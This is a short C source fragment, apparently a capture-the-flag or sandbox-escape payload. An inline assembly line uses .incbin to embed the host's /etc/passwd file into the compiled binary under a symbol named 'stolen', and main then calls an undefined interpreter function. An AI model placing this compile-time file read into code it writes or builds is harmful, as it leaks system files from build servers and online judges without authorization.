__asm__(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.text");
/* the interpreter */

int main(int argc, char **argv)
{
    return interpreter(argc, argv);
}
